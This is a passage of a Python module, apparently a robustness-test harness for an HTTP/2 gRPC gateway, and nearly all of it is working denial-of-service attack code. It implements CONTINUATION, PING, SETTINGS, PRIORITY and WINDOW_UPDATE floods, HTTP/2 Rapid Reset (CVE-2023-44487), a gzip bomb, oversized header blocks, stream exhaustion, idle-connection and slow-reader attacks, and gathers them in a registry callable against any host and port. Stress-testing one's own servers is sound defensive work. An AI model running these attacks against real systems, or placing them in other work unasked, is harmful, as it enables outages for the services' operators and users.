    return await malformed_header(host, port, case="empty_name", **kw)


async def uppercase_header(host: str, port: int, **kw: Any) -> AttackOutcome:
    """A request with an uppercase header name."""
    return await malformed_header(host, port, case="uppercase_name", **kw)


async def continuation_flood(host: str, port: int, *, frames: int = 100_000, payload_bytes: int = 1024,
                             timeout_s: float = 5.0, probe: Probe | None = None) -> AttackOutcome:
    """HEADERS without END_HEADERS, then endless CONTINUATION (each `payload_bytes` of header fields, or empty).

    figures: frames (CONTINUATIONs written before the server closed or stopped reading).
    """
    async with _Session("continuation_flood", host, port, timeout_s, probe) as s:
        c = await s.connect()
        sid = c.new_stream_id()
        c.send(frame(HEADERS, 0, sid, encode_headers(request_headers(c.authority))))
        one_field = hpack_literal(b"x-f", b"v" * 16)
        payload = (one_field * (payload_bytes // len(one_field) + 1))[:payload_bytes]
        one = frame(CONTINUATION, 0, sid, payload)
        sent = await _send_in_slices(c, lambda n: one * n, frames, 64, timeout_s)
        return await s.finish({"frames": sent})


MAX_FRAME_LENGTH = 2**24 - 1  # the largest length a frame header can state


async def big_ping(host: str, port: int, *, payload_bytes: int = MAX_FRAME_LENGTH, send_payload: bool = True,
                   timeout_s: float = 5.0, probe: Probe | None = None) -> AttackOutcome:
    """A PING announcing `payload_bytes` (16 MiB); the payload follows only if `send_payload` (the header must
    suffice for the server to refuse it). figures: payload_sent."""
    async with _Session("big_ping", host, port, timeout_s, probe) as s:
        c = await s.connect()
        c.send_raw(frame_header(PING, 0, 0, min(payload_bytes, MAX_FRAME_LENGTH)), 1)
        sent = 0
        chunk = bytes(256 * 1024)
        while send_payload and sent < payload_bytes and not c.ended():
            n = min(len(chunk), payload_bytes - sent)
            c.send_raw(chunk[:n])
            sent += n
            if not await c.drain(timeout_s):
                break
        if not send_payload:
            await c.wait_until(c.ended, timeout_s)  # no barrier: a PING now would be taken as payload
        return await s.finish({"payload_sent": sent}, barrier=send_payload)


async def _control_flood(name: str, one: bytes, host: str, port: int, count: int, read: bool, timeout_s: float,
                         probe: Probe | None, acks: Callable[[RawClient], int]) -> AttackOutcome:
    async with _Session(name, host, port, timeout_s, probe) as s:
        c = await s.connect(read=read, rcvbuf=None if read else 4096)
        if not read:
            c.settings_sent = True  # nothing is read, so nothing is answered anyway
        sent = await _send_in_slices(c, lambda n: one * n, count, 4096, timeout_s)
        if read:
            await c.wait_until(lambda: acks(c) >= sent or c.ended(), timeout_s)
        else:
            c.start_reading()  # now see what the server made of it
        return await s.finish({"sent": sent, "acks": acks(c)})


async def ping_flood(host: str, port: int, *, count: int = 100_000, read: bool = True, timeout_s: float = 5.0,
                     probe: Probe | None = None) -> AttackOutcome:
    """`count` PINGs in as few writes as possible; with `read` False the ACKs are not read until the end.

    figures: sent, acks (PING ACKs read before the barrier).
    """
    return await _control_flood("ping_flood", ping_frame(b"flood..."), host, port, count, read, timeout_s, probe,
                                lambda c: c.ping_acks)


async def settings_flood(host: str, port: int, *, count: int = 100_000, read: bool = True, timeout_s: float = 5.0,
                         probe: Probe | None = None) -> AttackOutcome:
    """`count` empty SETTINGS (each must be ACKed); with `read` False the ACKs are not read until the end."""
    return await _control_flood("settings_flood", settings_frame(), host, port, count, read, timeout_s, probe,
                                lambda c: c.settings_acks)


async def priority_flood(host: str, port: int, *, count: int = 100_000, timeout_s: float = 5.0,
                         probe: Probe | None = None) -> AttackOutcome:
    """`count` PRIORITY frames on idle streams (each allowed; a flood costs per frame)."""
    async with _Session("priority_flood", host, port, timeout_s, probe) as s:
        c = await s.connect()
        sent = await _send_in_slices(
            c, lambda n: b"".join(priority_frame(1 + 2 * (i % 1000), 0) for i in range(n)), count, 4096, timeout_s)
        return await s.finish({"sent": sent})


async def settings_initial_window_toggle(host: str, port: int, *, streams: int = 1000, toggles: int = 10_000,
                                         timeout_s: float = 10.0, probe: Probe | None = None) -> AttackOutcome:
    """Open `streams` streams, then change SETTINGS_INITIAL_WINDOW_SIZE `toggles` times (O(streams) each if naive).

    figures: barrier_s (from the last toggle written to the PING after it answered; inf if never),
    refused (streams refused while opening).
    """
    async with _Session("settings_initial_window_toggle", host, port, timeout_s, probe) as s:
        c = await s.connect()
        block = encode_headers(request_headers(c.authority))
        # requests whose body never comes: open streams that cost nothing else
        for i in range(0, streams, 500):
            sids = [c.new_stream_id() for _ in range(min(500, streams - i))]
            c.send_raw(b"".join(frame(HEADERS, END_HEADERS, sid, block) for sid in sids), len(sids))
            await c.drain(timeout_s)
        with contextlib.suppress(TimeoutError):
            await c.ping(timeout_s)
        values = (DEFAULT_WINDOW + 1, DEFAULT_WINDOW)
        blob = b"".join(settings_frame([(INITIAL_WINDOW_SIZE, values[i % 2])]) for i in range(toggles))
        t0 = time.monotonic()
        c.send_raw(blob, toggles)
        await c.drain(timeout_s)
        ok = False
        with contextlib.suppress(TimeoutError):
            ok = await c.ping(timeout_s)
        barrier = time.monotonic() - t0 if ok else float("inf")
        return await s.finish({"barrier_s": barrier, "refused": c.rst_codes().get(REFUSED_STREAM, 0)})


async def request_body_flood(host: str, port: int, *, streams: int = 64, message_bytes: int = 4 * MIB,
                             connections: int = 1, chunk: int = 16_384, stall_s: float = 0.5,
                             max_bytes: int = 1 << 30, timeout_s: float = 10.0,
                             probe: Probe | None = None) -> AttackOutcome:
    """Per connection, `streams` requests announcing `message_bytes` whose bodies never end (no END_STREAM),
    sent within the windows the gateway grants until no credit comes for `stall_s`.

    figures: accepted_bytes (DATA payload sent, all connections), accepted_max (most on one connection),
    stalled (connections that ran out of credit before sending everything).
    """
    async with _Session("request_body_flood", host, port, timeout_s, probe) as s:
        clients = [await s.connect() for _ in range(connections)]
        block = encode_headers(request_headers(clients[0].authority))
        results = await asyncio.gather(*(_body_flood_one(c, block, streams, message_bytes, chunk, stall_s,
                                                         max_bytes, timeout_s) for c in clients))
        return await s.finish({"accepted_bytes": float(sum(r[0] for r in results)),
                               "accepted_max": float(max(r[0] for r in results)),
                               "stalled": float(sum(r[1] for r in results))})


async def _body_flood_one(c: RawClient, block: bytes, streams: int, message_bytes: int, chunk: int, stall_s: float,
                          max_bytes: int, timeout_s: float) -> tuple[int, bool]:
    sids = [c.new_stream_id() for _ in range(streams)]
    c.send_raw(b"".join(frame(HEADERS, END_HEADERS, sid, block) for sid in sids), streams)
    left = dict.fromkeys(sids, message_bytes + 5)
    sent = 0
    for _ in range(max_bytes // max(chunk, 1) + 4 * streams + 10):  # cap: every pass sends or waits
        if c.ended() or not left or sent >= max_bytes:
            return sent, False
        out = []
        for sid in list(left):
            n = min(chunk, left[sid], c.stream_window(sid), max_bytes - sent)
            first = left[sid] == message_bytes + 5
            if n <= 0 or (first and n < 5):
                continue
            payload = grpc_prefix(message_bytes) + bytes(n - 5) if first else bytes(n)
            out.append(c.data_frame(sid, payload))
            left[sid] -= n
            sent += n
            if not left[sid]:
                del left[sid]
        if out:
            c.send_raw(b"".join(out), len(out))
            await c.drain(timeout_s)
            continue
        # out of window: all credit for what was sent arrives before the PING ACK; then wait for more
        with contextlib.suppress(TimeoutError):
            await c.ping(timeout_s)
        if not await c.wait_until(lambda: any(c.stream_window(x) > 0 for x in left) or c.ended(), stall_s):
            return sent, True
    return sent, False


async def header_block_of_empty_literals(host: str, port: int, *, block_bytes: int = 16 * MIB,
                                         frame_bytes: int = 16_384, timeout_s: float = 5.0,
                                         probe: Probe | None = None) -> AttackOutcome:
    """One header block of `block_bytes`: a valid request, then 3-byte empty literals (32 bytes of header
    list each). figures: block_bytes (written before the server closed or stopped reading)."""
    async with _Session("header_block_of_empty_literals", host, port, timeout_s, probe) as s:
        c = await s.connect()
        sid = c.new_stream_id()
        prefix = encode_headers(request_headers(c.authority))
        block = prefix + b"\x00\x00\x00" * max(0, (block_bytes - len(prefix)) // 3)
        c.send_raw(frame(HEADERS, END_STREAM | (END_HEADERS if len(block) <= frame_bytes else 0), sid,
                         block[:frame_bytes]), 1)
        pos = min(frame_bytes, len(block))
        while pos < len(block) and not c.ended():
            nxt = min(pos + frame_bytes * 16, len(block))
            out = []
            for i in range(pos, nxt, frame_bytes):
                end = min(i + frame_bytes, len(block))
                out.append(frame(CONTINUATION, END_HEADERS if end == len(block) else 0, sid, block[i:end]))
            c.send_raw(b"".join(out), len(out))
            pos = nxt
            if not await c.drain(timeout_s):
                break
        rec = c.record(sid)
        await c.wait_until(lambda: rec.ended or rec.rst is not None or c.ended(), timeout_s)
        return await s.finish({"block_bytes": float(pos)})


async def gzip_bomb(host: str, port: int, *, inflated_bytes: int = 256 * MIB, timeout_s: float = 10.0,
                    probe: Probe | None = None) -> AttackOutcome:
    """A grpc-encoding: gzip GenerateStreamCall whose message inflates to `inflated_bytes` of zeros.

    figures: compressed_bytes.
    """
    body = gzip_bomb_message(inflated_bytes)
    async with _Session("gzip_bomb", host, port, timeout_s, probe) as s:
        c = await s.connect()
        sid = c.new_stream_id()
        headers = request_headers(c.authority, extra=[("grpc-encoding", "gzip"), ("grpc-accept-encoding", "gzip")])
        c.send_raw(c.headers_frames(sid, encode_headers(headers)), 1)
        rec = c.record(sid)
        pos = 0
        for _ in range(len(body) // 1024 + 1000):  # cap: every pass sends a frame or waits for window
            if pos >= len(body) or c.ended() or rec.rst is not None or rec.ended:
                break
            if not await c.wait_until(lambda: c.stream_window(sid) > 0 or c.ended() or rec.rst is not None,
                                      timeout_s):
                break
            n = min(16_384, c.stream_window(sid), len(body) - pos)
            if n > 0:
                c.send_raw(c.data_frame(sid, body[pos : pos + n], end_stream=pos + n >= len(body)), 1)
                pos += n
        await c.wait_until(lambda: rec.ended or rec.rst is not None or c.ended(), timeout_s)
        return await s.finish({"compressed_bytes": float(len(body))})


async def rapid_reset(host: str, port: int, *, streams: int = 10_000, batch: int = 100, timeout_s: float = 10.0,
                      probe: Probe | None = None) -> AttackOutcome:
    """HEADERS + DATA(END_STREAM) + RST_STREAM(CANCEL) per stream, `batch` streams per write (CVE-2023-44487).

    figures: streams (opened before the server ended the connection).
    """
    async with _Session("rapid_reset", host, port, timeout_s, probe) as s:
        c = await s.connect()
        block = encode_headers(request_headers(c.authority))
        message = grpc_frame(generate_message(1))
        opened = 0
        while opened < streams and not c.ended():
            n = min(batch, streams - opened)
            out = []
            for _ in range(n):
                sid = c.new_stream_id()
                out.append(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, message)
                           + rst_frame(sid, CANCEL))
            c.send_raw(b"".join(out), 3 * n)
            opened += n
            if not await c.drain(timeout_s):
                break
        return await s.finish({"streams": opened})


async def too_many_streams(host: str, port: int, *, streams: int = 2000, max_new_tokens: int = 1000,
                           timeout_s: float = 5.0, probe: Probe | None = None) -> AttackOutcome:
    """Open `streams` calls at once, far past SETTINGS_MAX_CONCURRENT_STREAMS; our window of 0 keeps them open.

    figures: advertised (the server's SETTINGS_MAX_CONCURRENT_STREAMS, -1 if none), refused (REFUSED_STREAM),
    first_refused (lowest refused stream id, 0 if none), unrefused_after (streams above first_refused not refused).
    """
    async with _Session("too_many_streams", host, port, timeout_s, probe) as s:
        c = await s.connect(settings=[(INITIAL_WINDOW_SIZE, 0)])
        block = encode_headers(request_headers(c.authority))
        sids = [c.new_stream_id() for _ in range(streams)]
        for i in range(0, streams, 200):
            part = sids[i : i + 200]
            c.send_raw(b"".join(c.call_frames(sid, generate_message(sid, max_new_tokens=max_new_tokens), block=block)
                                for sid in part), 2 * len(part))
            await c.drain(timeout_s)
        with contextlib.suppress(TimeoutError):
            await c.ping(timeout_s)
        refused = [sid for sid in sids if c.record(sid).rst == REFUSED_STREAM]
        first = refused[0] if refused else 0
        return await s.finish({
            "advertised": float(c.server_settings.get(MAX_CONCURRENT_STREAMS, -1)), "refused": float(len(refused)),
            "first_refused": float(first),
            "unrefused_after": float(sum(1 for sid in sids if first and sid > first and c.record(sid).rst is None)),
        })


IDLE_MODES = ("silent", "half_preface", "preface_only", "handshaken")


async def idle_connections(host: str, port: int, *, connections: int = 100, mode: str = "silent",
                           hold_s: float = 5.0, probe: Probe | None = None) -> AttackOutcome:
    """`connections` connections that send nothing (`silent`), half the preface, the preface without SETTINGS,
    or a full handshake and then nothing; held until the server closed them all or `hold_s` passed.

    figures: closed (connections the server closed), close_s_max (slowest close; inf if some stayed open).
    """
    if mode not in IDLE_MODES:
        raise ValueError(f"mode must be one of {IDLE_MODES}")
    preface = {"silent": None, "half_preface": PREFACE[:12], "preface_only": PREFACE, "handshaken": PREFACE}[mode]
    settings: Sequence[tuple[int, int]] | None = () if mode == "handshaken" else None
    async with _Session(f"idle_connections:{mode}", host, port, hold_s, probe) as s:
        for _ in range(connections):
            await s.connect(preface=preface, settings=settings)
        closed_at: dict[int, float] = {}

        async def watch(i: int, c: RawClient) -> None:
            if await c.wait_until(lambda: c.closed, hold_s):
                closed_at[i] = time.monotonic() - s.started

        await asyncio.gather(*(watch(i, c) for i, c in enumerate(s.clients)))
        return await s.finish({
            "closed": float(len(closed_at)),
            "close_s_max": max(closed_at.values()) if len(closed_at) == len(s.clients) else float("inf"),
        }, barrier=False)


async def half_preface(host: str, port: int, **kw: Any) -> AttackOutcome:
    """Connections that send half the connection preface and stop."""
    return await idle_connections(host, port, mode="half_preface", **kw)


async def slow_reader(host: str, port: int, *, streams: int = 100, max_new_tokens: int = 100_000,
                      never_read: bool = False, hold_s: float = 5.0, probe: Probe | None = None,
                      end_wait_s: float | None = None) -> AttackOutcome:
    """Streaming calls whose responses are never read (`never_read`) or never given window back; held until the
    server ended every stream or `hold_s` passed (a probe runs while nothing is read).

    figures: response_bytes (DATA received), streams_ended (reset or ended by the server).
    """
    async with _Session("slow_reader", host, port, hold_s, probe) as s:
        c = await s.connect(read=not never_read, auto_window=False, rcvbuf=4096 if never_read else None,
                            settings=[(INITIAL_WINDOW_SIZE, 16_384)])
        block = encode_headers(request_headers(c.authority))
        sids = [c.new_stream_id() for _ in range(streams)]
        c.send_raw(b"".join(c.call_frames(sid, generate_message(sid, max_new_tokens=max_new_tokens), block=block)
                            for sid in sids), 2 * streams)
        await c.drain(hold_s)
        if never_read:
            await s.run_probe()
            c.start_reading()

        def done(sid: int) -> bool:
            return c.record(sid).rst is not None or c.record(sid).ended

        # once it reads again, how long the ends the server sent may take to arrive (a bound, not a pause)
        end_s = hold_s if end_wait_s is None else end_wait_s
        await c.wait_until(lambda: c.ended() or all(done(x) for x in sids), end_s)
        return await s.finish({"response_bytes": float(sum(c.record(x).data_bytes for x in sids)),
                               "streams_ended": float(sum(1 for x in sids if done(x)))})


async def empty_data_flood(host: str, port: int, *, frames: int = 100_000, timeout_s: float = 5.0,
                           probe: Probe | None = None) -> AttackOutcome:
    """An open request stream, then empty DATA frames without END_STREAM. figures: sent."""
    async with _Session("empty_data_flood", host, port, timeout_s, probe) as s:
        c = await s.connect()
        sid = c.new_stream_id()
        c.send(frame(HEADERS, END_HEADERS, sid, encode_headers(request_headers(c.authority))))
        one = frame(DATA, 0, sid)
        sent = await _send_in_slices(c, lambda n: one * n, frames, 4096, timeout_s)
        return await s.finish({"sent": sent})


async def window_update_flood(host: str, port: int, *, frames: int = 100_000, timeout_s: float = 5.0,
                              probe: Probe | None = None) -> AttackOutcome:
    """WINDOW_UPDATE(+1) frames on the connection while the gateway sends nothing. figures: sent."""
    async with _Session("window_update_flood", host, port, timeout_s, probe) as s:
        c = await s.connect()
        one = window_update_frame(0, 1)
        sent = await _send_in_slices(c, lambda n: one * n, frames, 4096, timeout_s)
        return await s.finish({"sent": sent})


async def grpc_timeout_malformed(host: str, port: int, *, value: str = "²S", streams: int = 1,
                                 timeout_s: float = 5.0, probe: Probe | None = None) -> AttackOutcome:
    """GenerateStreamCall with `grpc-timeout: value` (sent as UTF-8)."""
    async with _Session("grpc_timeout_malformed", host, port, timeout_s, probe) as s:
        c = await s.connect()
        pairs = [*request_pairs(c.authority), (b"grpc-timeout", value.encode())]
        sids = []
        for _ in range(streams):
            sid = c.new_stream_id()
            sids.append(sid)
            c.send_raw(c.call_frames(sid, block=literal_block(pairs)), 2)
        await c.wait_until(lambda: c.ended() or all(c.record(x).ended or c.record(x).rst is not None for x in sids),
                           timeout_s)
        return await s.finish()


ATTACKS: dict[str, Callable[..., Awaitable[AttackOutcome]]] = {
    "settings_max_frame_size_zero": settings_max_frame_size_zero,
    "malformed_header": malformed_header,
    "empty_header_name": empty_header_name,
    "uppercase_header": uppercase_header,
    "continuation_flood": continuation_flood,
    "big_ping": big_ping,
    "ping_flood": ping_flood,
    "settings_flood": settings_flood,
    "priority_flood": priority_flood,
    "settings_initial_window_toggle": settings_initial_window_toggle,
    "request_body_flood": request_body_flood,
    "header_block_of_empty_literals": header_block_of_empty_literals,
    "gzip_bomb": gzip_bomb,
    "rapid_reset": rapid_reset,
    "too_many_streams": too_many_streams,
    "idle_connections": idle_connections,
    "half_preface": half_preface,
    "slow_reader": slow_reader,
    "empty_data_flood": empty_data_flood,
    "window_update_flood": window_update_flood,
    "grpc_timeout_malformed": grpc_timeout_malformed,
}
